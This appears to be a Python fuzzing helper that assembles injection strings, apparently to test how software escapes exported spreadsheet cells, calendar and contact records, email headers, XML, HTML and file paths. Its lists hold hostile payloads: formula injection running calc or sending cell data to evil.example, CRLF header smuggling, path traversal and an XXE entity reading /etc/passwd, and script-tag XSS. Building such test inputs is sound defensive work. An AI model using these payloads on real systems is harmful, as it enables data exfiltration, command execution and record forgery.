"""Texts that try to be more than a text: formulas, lines, headers, paths, links, marks of direction."""

from __future__ import annotations

from random import Random
from typing import Final

_HEADS: Final = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "\"=", "＝", "＋", "－", "＠", ";=", ",=", "\u200b=",
    "\ufeff=", "\x00=", "", "", "", "\u202e", "\u2028", "\x0b", "\x1b[31m", "\ud800", "_x003D_",
)  # fmt: skip
_BODIES: Final = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\";\"x\")", "SUM(A1:A9)",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "WEBSERVICE(\"http://evil.example\")",
    "\r\nBCC: evil@example.org\r\n\r\nbody", "\nX-Evil: 1", "\r\nATTENDEE:mailto:evil@example.org",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil", "\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:Evil",
    "\u2028BEGIN:VALARM\u2028ACTION:PROCEDURE", "\x85ATTACH:file:///etc/passwd", "\\nUID:evil", "\\N;X=1:",
    '";CN="b:c', "^nATTENDEE:x", ";TYPE=CELL:1", "a,b;c\\d", '"a","b"\n"c"', "a\tb\tc", "a\u0000b",
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "CON", "nul.txt", "a:b|c?d*e",
    "\u202egnp.exe", "<img src=file:///etc/passwd>", "<script>alert(1)</script>", "]]><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "&amp;&#x3d;1", "javascript:alert(1)",
    "https://evil.example/", "file:///etc/passwd", "mailto:evil@example.org?bcc=x", "𠮷🦊👩‍🔬", "e\u0301", "a" * 300,
    "=?utf-8?q?=0d=0aBcc:_evil@example.org?=", "--=_boundary", "\r\n.\r\n", "&A&\"Wingdings\"&72", "{1+1}", "!A1",
)  # fmt: skip
_TAILS: Final = (
    "",
    "",
    "",
    "\r\n",
    "\n",
    "\t",
    " ",
    "\\",
    '"',
    "'",
    ";",
    ",",
    "\x00",
    "\ud83d",
    "^",
    "=",
)


def injections(count: int, seed: int = 0) -> list[str]:
    """So many texts; the same seed gives the same."""
    lot = Random(seed)
    return [
        lot.choice(_HEADS)
        + "".join(lot.choice(_BODIES) for _ in range(lot.choice((1, 1, 1, 2, 3))))
        + lot.choice(_TAILS)
        for _ in range(count)
    ]
